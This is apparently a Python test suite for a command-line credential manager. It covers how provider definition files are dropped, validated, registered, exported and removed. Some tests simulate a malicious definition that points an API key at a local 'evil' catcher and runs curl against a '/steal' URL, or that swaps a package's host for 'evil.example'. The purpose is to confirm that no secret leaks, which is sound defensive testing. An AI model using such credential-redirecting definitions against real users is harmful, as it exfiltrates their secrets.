"""Definitions as files: dropped, broken, registered, overridden, packaged, removed (CL-10, PK-06)."""
import json, re, socket, ssl
from harness import *

API_KEY = {"auth_type": "api_key", "flow": "api_key", "api_url": "api.acme.example", "api_key": {"header_name": "X-Acme-Key", "header_prefix": ""}}


def drop(world, name, text):
    directory = world.home / "providers"
    directory.mkdir(parents=True, exist_ok=True)
    world.home.chmod(0o700)
    directory.chmod(0o700)
    (directory / f"{name}.json").write_text(text if isinstance(text, str) else json.dumps({"schema_version": 1, "name": name, "display_name": name.title(), **text}))


def listed(world):
    return {p["name"]: p for p in json.loads(world.run("list", "--json").stdout)["providers"]}


def a_dropped_file_works_at_once_and_a_broken_one_hides_nothing(world):
    catalogue = listed(world)
    drop(world, "acme", API_KEY)
    key = world.canaries.new("key")
    world.run("login", "acme", "--input", "stdin", stdin=key)
    for name, text in {"cut": '{"schema_version": 1,', "empty": "", "wrong": {**API_KEY, "flow": "nonsense"}, "list": "[]", "binary": "\x00\x01"}.items():
        drop(world, name, text)
    now = listed(world)
    equal(sorted(set(now) - set(catalogue)), ["acme", "binary", "cut", "empty", "list", "wrong"], "listed")
    equal(sorted(n for n, p in now.items() if p["problem"]), ["binary", "cut", "empty", "list", "wrong"], "with a problem")
    warnings = world.run("list").stderr
    for name in ("cut", "empty", "wrong", "list", "binary"):
        contains(warnings, f"{name}: ", "the warning names the file")
        check(world.run("login", name, "--input", "stdin", stdin="x", code=4).stderr, "login says what is wrong")
    equal(world.run("get", "acme", "--field", "status").stdout, "connected\n", "the good one")


def register_shows_every_mistake_at_once(world):
    file = world.directory / "bad.json"
    file.write_text('{\n  // a comment\n  "schema_version": 1,\n  "name": "Bad Name",\n  "auth_type": "api_key",\n  "flow": "nonsense",\n  "api_url": 7,\n  "nosuch": true\n}\n')
    result = world.run("register", file, "--yes", code=4)
    for pointer, line in (("/name", 4), ("/flow", 6), ("/api_url", 7), ("/display_name", None)):
        check(re.search(rf"error: {pointer} \(line {line or r'[0-9]+'}, column [0-9]+\): .{{10,}}", result.stderr), f"{pointer} is not reported: {result.stderr}")
    refused = world.run("register", file, "--yes", "--json", code=4)
    equal(refused.stdout, "", "one document, the error")
    findings = json.loads(refused.stderr)["error"]["findings"]
    check({"/name", "/flow", "/api_url"} <= {f["pointer"] for f in findings if f["severity"] == "error"}, f"{findings}")
    check(all(f["line"] >= 1 and f["column"] >= 1 and f["message"] for f in findings), "places")
    check(not (world.home / "providers").exists() or not list((world.home / "providers").iterdir()), "nothing is written")


def what_inspect_prints_registers_again(world):
    for name in ("github", "openai", "twilio", "telegram"):
        if name not in listed(world):
            continue
        text = world.run("inspect", name).stdout
        world.run("register", "-", "--yes", stdin=text)
        equal(world.run("inspect", name).stdout, text, f"{name} after the round trip")
        entry = listed(world)[name]
        equal((entry["source"], entry["overrides_bundled"]), ("custom", True), name)
        world.run("remove", name, "--yes")
        equal(listed(world)[name]["source"], "bundled", "remove leaves the bundled definition")


class Catcher(threading.Thread):
    """Takes whatever comes: bytes before and, if TLS can be had, within TLS."""

    def __init__(self, world):
        super().__init__(daemon=True)
        world.certificates()
        self.context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        self.context.load_cert_chain(world.cert, world.key)
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port, self.caught, self.connections = self.socket.getsockname()[1], b"", 0
        self.start()

    def run(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            with contextlib.suppress(OSError), self.context.wrap_socket(connection, server_side=True) as tls:
                tls.settimeout(5)
                data = b""
                while b"\r\n\r\n" not in data and (piece := tls.recv(4096)):
                    data += piece
                self.caught += data
                tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")


def CL10_PK06_a_shadow_definition_gets_no_credential(world):
    good, evil = Catcher(world), Catcher(world)
    bundled = json.loads(world.run("inspect", "openai").stdout)
    key = world.canaries.new("key", "sk-")
    # Made with the bundled definition itself.
    world.run("login", "openai", "--input", "stdin", stdin=key)
    equal(world.run("get", "openai", "--field", "status").stdout, "connected\n", "status")
    drop(world, "openai", json.dumps({**bundled, "api_url": f"https://127.0.0.1:{evil.port}/"}))
    equal(listed(world)["openai"]["source"], "custom", "the custom file wins")
    equal(world.run("get", "openai", "--field", "status").stdout, "suspended\n", "status under the shadow")
    equal(listed(world)["openai"]["connections"][0]["status"], "suspended", "list")
    answer = world.run("run", "--", "curl", "-sS", "-k", "-o", "/dev/null", "-w", "%{http_code}", f"https://127.0.0.1:{evil.port}/steal", code=None)
    check("424" in answer.stdout, f"the proxy answers 424: {answer.stdout} {answer.stderr}")
    check(key.encode() not in evil.caught and not world.canaries.find_in(evil.caught), "the catcher got the secret")
    refused = world.run("confirm", "openai", code=2)
    contains(refused.stderr, "+ /api_url: ", "the difference")
    contains(refused.stderr, str(evil.port), "the new value")
    contains(refused.stderr, "- /api_url: ", "the old value")
    equal(world.run("get", "openai", "--field", "status").stdout, "suspended\n", "an unanswered confirmation changes nothing")
    # The human meant it, with another host.
    drop(world, "openai", json.dumps({**bundled, "api_url": f"https://127.0.0.1:{good.port}/"}))
    contains(world.run("confirm", "openai", "--yes").stdout, "Confirmed 1 connection of openai.", "confirm")
    equal(world.run("get", "openai", "--field", "status").stdout, "connected\n", "status once confirmed")
    equal(world.run("run", "--", "curl", "-sS", f"https://127.0.0.1:{good.port}/").stdout, "ok", "it works again")
    check(key.encode() in good.caught, "the confirmed host gets the credential")
    check(not world.canaries.find_in(evil.caught), "the catcher got the secret")
    print(f"catcher: {evil.connections} connections, {len(evil.caught)} bytes, no secret")


def register_says_what_it_will_do(world):
    key = world.definition("acme", **API_KEY, export={"env": {"api_key": "ACME_KEY"}})
    said = world.run("register", key, "--yes").stderr
    for part in ("acme (Acme): API key", "sends your key as the header X-Acme-Key to https://api.acme.example/*", "asks for: API key", "exports: ACME_KEY"):
        contains(said, part, "the plan")
    oauth = world.definition("far", auth_type="oauth2", flow="pkce", api_url="api.far.example",
                             oauth={"authorization_url": "https://far.example/authorize", "token_url": "https://far.example/token", "scopes": ["read", "write"]})
    said = world.run("register", oauth, "--yes").stderr
    for part in ("logs in at https://far.example/authorize, the token comes from https://far.example/token", "scopes: read, write",
                 "sends the access token as the header Authorization: Bearer ... to https://api.far.example/*", "asks for: client id"):
        contains(said, part, "the plan")
    mcp = world.definition("mcp", auth_type="oauth2", flow="dcr_pkce", api_url="mcp.far.example", oauth={"resource": "https://mcp.far.example/mcp"})
    contains(world.run("register", mcp, "--yes").stderr, "logs in at the authorization server that https://mcp.far.example/mcp names", "the plan")
    changed = world.definition("acme", **{**API_KEY, "api_url": "evil.example", "api_key": {"header_name": "X-Other", "header_prefix": ""}})
    said = world.run("register", changed, "--yes", "--force").stderr
    for part in ("takes the place of the custom definition and changes:", '- /api_url: "api.acme.example"', '+ /api_url: "evil.example"', '- /api_key/header_name: "X-Acme-Key"',
                 '+ /api_key/header_name: "X-Other"'):
        contains(said, part, "CL-10")


def the_plan_says_whether_a_client_secret_is_needed(world):
    for name, asked in {"github": "client secret", "google": "client secret", "atlassian": "client secret", "notion": "client secret",
                        "gitlab": "client secret, if there is one", "microsoft": "client secret, if there is one"}.items():
        file = world.directory / f"{name}.json"
        file.write_text(world.run("inspect", name).stdout)
        said = world.run("register", file, "--yes").stderr
        line = next(line for line in said.splitlines() if "asks for: " in line)
        check(line.endswith(f"client id, {asked}"), f"{name}: {line}")


def an_own_site_is_not_every_host(world):
    site = world.definition("site", **{**API_KEY, "api_url": "{base_url}/api", "allow_all_uris": True})
    said = world.run("register", site, "--yes").stderr
    for part in ("own site", "the whole site that you log in to", "no host beyond"):
        contains(said, part, "the warning and the plan")
    check("every host" not in said and "any host" not in said, said)


def the_list_counts_errors_and_shows_the_kind(world):
    drop(world, "far", {"auth_type": "oauth2", "flow": "nonsense", "api_url": 7, "oauth2": {"token_url": "http://far.example"}})
    entry = listed(world)["far"]
    equal((entry["auth_type"], entry["flow"]), ("oauth2", None), "the kind of a broken file")
    check(re.match(r"[3-9] errors, first: far\.json: error: .*; all of them: claviger register .*far\.json$", entry["problem"]), entry["problem"])
    check(re.search(r"^far +custom +oauth2 +- +broken", world.run("list").stdout, re.M), "the table")


def definitions_go_out_in_every_form_and_come_back(world):
    manifest = {"name": "@acme/boxed", "version": "2.1.0", "type": "provider", "displayName": "Boxed", "license": "MIT", "keywords": ["k"], "x-note": {"a": 1},
                "definition": {"authMode": "api_key", "credentials": {"schema": {"type": "object", "properties": {"api_key": {"type": "string"}}, "required": ["api_key"]},
                                                                      "fieldName": "api_key"}, "credentialHeaderName": "X-Key", "authorizedUris": ["https://api.boxed.example/*"],
                               "uploadProtocols": ["tus"]}}
    file = world.directory / "manifest.json"
    file.write_text(json.dumps(manifest))
    world.run("register", file, "--yes")
    native = world.run("inspect", "boxed").stdout
    out = json.loads(world.run("inspect", "boxed", "--format", "afps").stdout)
    for member in ("name", "version", "license", "keywords", "x-note"):
        equal(out.get(member), manifest[member], f"{member} comes back")
    equal(out["definition"]["uploadProtocols"], ["tus"], "a foreign member inside")
    package = world.directory / "boxed.afps"
    equal(world.run("inspect", "boxed", "--format", "afps-package", "--output", package).stdout, f"Wrote {package}.\n", "what it says")
    first = package.read_bytes()
    world.run("inspect", "boxed", "--format", "afps-package", "--output", package)
    equal(package.read_bytes(), first, "the same bytes each time")
    import zipfile
    equal(json.loads(zipfile.ZipFile(package).read("manifest.json")), out, "the archive holds the manifest")
    flat = world.run("inspect", "boxed", "--format", "flat").stdout
    for source, words in ((package, [package]), (flat, ["-"])):
        world.run("remove", "boxed", "--yes")
        world.run("register", *words, "--yes", stdin=flat if words == ["-"] else None)
        equal({k: v for k, v in json.loads(world.run("inspect", "boxed").stdout).items() if not k.startswith("x-")},
              {k: v for k, v in json.loads(native).items() if not k.startswith("x-")}, "the round trip")
    noted = world.definition("acme", **API_KEY, **{"x-note": 1})
    world.run("register", noted, "--yes")
    contains(world.run("inspect", "acme", "--format", "afps").stderr, "cannot say: /x-note", "what is lost is said")
    world.run("remove", "acme", "--yes")
    schema = json.loads(world.run("inspect", "--schema").stdout)
    equal(schema, json.loads((ROOT / "providers/schema/provider.schema.json").read_text()), "the schema for editors")
    with_schema = world.definition("acme", **API_KEY, **{"$schema": "./provider.schema.json"})
    check("warning" not in world.run("register", with_schema, "--yes").stderr, "a definition may name its schema")


FORMS = {"afps": "out.json", "afps-package": "out.afps", "flat": "flat.json"}


def what_inspect_writes_in_a_foreign_form_registers_as_the_same(world):
    world.definition("own", auth_type="custom", flow="custom", api_url=["{base_url}/api", "*.own.example"], vars={"base_url": {"title": "Site"}},
                     credentials={"schema": {"type": "object", "properties": {"user": {"type": "string"}, "pin": {"type": "string"}}}},
                     inject={"headers": {"X-User": "{{user}}"}, "query": {"pin": "{{pin}}"}})
    drop(world, "own", json.loads((world.directory / "own.json").read_text()))
    names = ("github", "gitlab", "openai", "twilio", "telegram", "zendesk", "shopify", "salesforce", "notion_dcr", "postiz", "trello", "own")
    native = {name: world.run("inspect", name).stdout for name in names if name in listed(world)}
    check(len(native) >= 10, f"only {sorted(native)}")
    for form, file_name in FORMS.items():
        for name, text in native.items():
            file = world.directory / file_name
            warned = world.run("inspect", name, "--format", form, "--output", file).stderr
            check("cannot say" not in warned, f"{name} as {form}: {warned}")
            empty = world.directory / f"empty-{form}-{name}"
            done = world.run("register", file, "--yes", env={"CLAVIGER_HOME": str(empty)}).stderr
            check("error" not in done, f"{name} as {form}: {done}")
            again = world.run("inspect", name, env={"CLAVIGER_HOME": str(empty)}).stdout
            equal(json.loads(again), json.loads(text), f"{name} as {form}")
    for name, more in {"pattern": {"api_url": "**.acme.example"}, "all": {"api_url": "{base_url}/v1", "allow_all_uris": True}}.items():
        drop(world, name, {**API_KEY, **more})
        for form, file_name in FORMS.items():
            file = world.directory / f"{name}-{file_name}"
            refused = world.run("inspect", name, "--format", form, "--output", file, code=None)
            check(refused.returncode not in (0, 1) and "cannot say" in refused.stderr and not file.exists(), f"{name} as {form}: {refused.returncode} {refused.stderr}")


def PK06_a_package_cannot_show_one_host_and_mean_another(world):
    file = world.directory / "two-faced.json"
    world.run("inspect", "openai", "--format", "afps", "--output", file)
    manifest = json.loads(file.read_text())
    manifest["x-claviger"]["api_url"] = "evil.example"
    file.write_text(json.dumps(manifest))
    contains(world.run("register", file, "--yes", "--force", code=4).stderr, "[contradicts]", "what is wrong")
    equal(listed(world)["openai"]["source"], "bundled", "nothing is registered")


def packages_register_and_remove(world):
    packages = sorted((ROOT.parent / "shared/peers/afps-v1").glob("*.afps"))
    if not packages:
        import zipfile
        manifest = {"name": "@acme/boxed", "version": "1.0.0", "type": "provider", "schemaVersion": "1.0", "displayName": "Boxed",
                    "definition": {"authMode": "api_key", "credentials": {"schema": {"type": "object", "properties": {"api_key": {"type": "string"}}, "required": ["api_key"]},
                                                                          "fieldName": "api_key"}, "credentialHeaderName": "X-Key", "authorizedUris": ["https://api.boxed.example/*"]}}
        packages = [world.directory / "boxed.afps"]
        with zipfile.ZipFile(packages[0], "w") as archive:
            archive.writestr("manifest.json", json.dumps(manifest))
    problems = []
    for package in packages:
        before = {n for n, p in listed(world).items() if p["source"] == "custom"}
        done = world.run("register", package, "--yes", "--json", code=None)
        after = {n for n, p in listed(world).items() if p["source"] == "custom"}
        if done.returncode != 0 or len(after - before) != 1:
            problems.append(f"{package.name}: exit code {done.returncode}, {sorted(after - before)}: {done.stdout[-300:]} {done.stderr[-300:]}")
            continue
        name = (after - before).pop()
        json.loads(world.run("inspect", name).stdout)
        if package is packages[-1]:
            world.run("remove", name, "--yes")
            check(name not in {n for n, p in listed(world).items() if p["source"] == "custom"}, f"{name} is still there")
    check(not problems, "\n".join(problems))
    print(f"{len(packages)} packages")


def remove_takes_connections_along(world):
    drop(world, "acme", API_KEY)
    for name in ("default", "work"):
        world.run("login", "acme", "--input", "stdin", "--connection", name, stdin=world.canaries.new(name))
    result = world.run("remove", "acme", "--yes")
    contains(result.stderr, "2 connections", "what it deletes is said")
    world.run("get", "acme", code=3)
    check("acme" not in listed(world) and not (world.home / "providers" / "acme.json").exists(), "acme is gone")
    drop(world, "acme", API_KEY)
    world.run("get", "acme", code=6)


if __name__ == "__main__":
    main(a_dropped_file_works_at_once_and_a_broken_one_hides_nothing, register_shows_every_mistake_at_once, what_inspect_prints_registers_again,
         CL10_PK06_a_shadow_definition_gets_no_credential, register_says_what_it_will_do,
         the_plan_says_whether_a_client_secret_is_needed, an_own_site_is_not_every_host, the_list_counts_errors_and_shows_the_kind,
         definitions_go_out_in_every_form_and_come_back, what_inspect_writes_in_a_foreign_form_registers_as_the_same,
         PK06_a_package_cannot_show_one_host_and_mean_another, packages_register_and_remove, remove_takes_connections_along)
